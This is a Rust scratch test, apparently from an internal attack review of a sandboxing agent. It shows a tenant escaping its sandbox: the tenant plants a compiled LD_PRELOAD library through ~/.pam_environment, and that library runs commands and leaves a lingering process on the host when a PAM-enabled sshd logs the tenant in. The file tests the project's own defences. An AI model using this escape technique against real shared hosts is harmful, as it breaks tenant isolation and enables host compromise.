//! SCRATCH (attack review) — delete after use.
use loopin_agent::accounts::Accounts;
use loopin_agent::test_host::{TestHost, kernel_lacks};
use loopin_agent::username::Username;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::Duration;

const SESSION: &str = env!("CARGO_BIN_EXE_loopin-session");

fn host(prefix: &str) -> Option<TestHost> {
    if let Some(f) = kernel_lacks() {
        eprintln!("SKIPPED {f}");
        return None;
    }
    Some(TestHost::start(prefix, Path::new(SESSION), |_| {}).expect("host"))
}

fn ssh_port(host: &TestHost, user: &Username, port: u16, cmd: &str) -> Output {
    Command::new("ssh")
        .args(["-o", "BatchMode=yes", "-o", "ConnectTimeout=10", "-o", "StrictHostKeyChecking=no"])
        .args(["-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR", "-i"])
        .arg(&host.client_key)
        .args(["-p", &port.to_string()])
        .arg(format!("{user}@127.0.0.1"))
        .arg(cmd)
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

fn show(tag: &str, out: &Output) {
    eprintln!(
        "----- {tag} (status {:?})\n{}\n[stderr]\n{}",
        out.status,
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

fn procs_of(uid: u32) -> Vec<String> {
    let mut v = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = e.file_name().to_string_lossy().parse::<i32>() else { continue };
        let Ok(st) = std::fs::read_to_string(format!("/proc/{pid}/status")) else { continue };
        let uidl = st.lines().find(|l| l.starts_with("Uid:")).unwrap_or("");
        if uidl.split_whitespace().nth(1) == Some(&uid.to_string()) {
            let cmd = std::fs::read_to_string(format!("/proc/{pid}/cmdline")).unwrap_or_default().replace('\0', " ");
            let cg = std::fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap_or_default().replace('\n', " | ");
            v.push(format!("{pid} [{cmd}] cgroup: {cg}"));
        }
    }
    v
}

/// Debian's /etc/pam.d/sshd has `pam_env.so user_readenv=1`: ~/.pam_environment (in the
/// tenant-writable home) sets the environment of the login shell, which runs on the host.
#[test]
fn pam_environment_ld_preload_escape() {
    let Some(host) = host("lpxpam") else { return };
    let tenant = host.tenant(1).unwrap();
    let uid = host.uid(&tenant).unwrap();
    // Everything below is written by the tenant from inside its sandbox.
    let plant = r#"set -e
cat > /tmp/evil.c <<'EOF2'
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void pwn(void) {
  const char *h = getenv("HOME");
  char cmd[4096];
  unsetenv("LD_PRELOAD");
  snprintf(cmd, sizeof cmd, "(echo ID; id; echo CGROUP; cat /proc/self/cgroup; echo PIDNS; readlink /proc/self/ns/pid /proc/self/ns/mnt; echo HOSTVIEW; ls /var/lib | head -5; ls -d /run/loopin-test-*; echo NPROC; ls /proc | grep -c '^[0-9]') > %s/pwned.txt 2>&1", h);
  system(cmd);
  if (fork() == 0) { setsid(); if (fork() == 0) { execl("/bin/sleep", "sleep", "3600", (char*)0); } _exit(0); }
}
EOF2
gcc -shared -fPIC -o "$HOME/evil.so" /tmp/evil.c
echo "LD_PRELOAD DEFAULT=$HOME/evil.so" > "$HOME/.pam_environment"
echo planted; readlink /proc/self/ns/pid; cat /proc/self/cgroup"#;
    let out = host.ssh(&tenant, plant).unwrap();
    show("plant (inside sandbox)", &out);

    // A second sshd from the very same config, with Debian's default UsePAM yes.
    let cfg = std::fs::read_to_string(host.dir.path().join("sshd_config")).unwrap();
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let cfg = cfg
        .replace("UsePAM no", "UsePAM yes")
        .replace(&format!("Port {}", host.sshd.port), &format!("Port {port}"))
        .replace("sshd.pid", "sshd2.pid");
    let cfg_path = host.dir.path().join("sshd_config2");
    std::fs::write(&cfg_path, cfg).unwrap();
    let log = std::fs::File::create("/tmp/atk/sshd2.log").unwrap();
    let mut sshd = Command::new("/usr/sbin/sshd")
        .args(["-D", "-e", "-f"])
        .arg(&cfg_path)
        .stdin(Stdio::null())
        .stderr(log)
        .spawn()
        .unwrap();
    for _ in 0..100 {
        if std::net::TcpStream::connect(("127.0.0.1", port)).is_ok() { break; }
        std::thread::sleep(Duration::from_millis(50));
    }
    let out = ssh_port(&host, &tenant, port, "echo session-ok; cat /proc/self/cgroup");
    show("login through UsePAM=yes sshd", &out);
    std::thread::sleep(Duration::from_millis(500));
    let pwned = std::fs::read_to_string(host.home(&tenant).join("pwned.txt"));
    eprintln!("----- pwned.txt (written by the tenant's code on the host side):\n{pwned:?}");
    eprintln!("----- root pid ns: {:?}", std::fs::read_link("/proc/self/ns/pid"));
    eprintln!("----- processes of uid {uid} before removal:\n{}", procs_of(uid).join("\n"));
    host.accounts.remove(&tenant).unwrap();
    eprintln!("----- processes of uid {uid} after removal:\n{}", procs_of(uid).join("\n"));
    let _ = sshd.kill();
    let _ = sshd.wait();
}
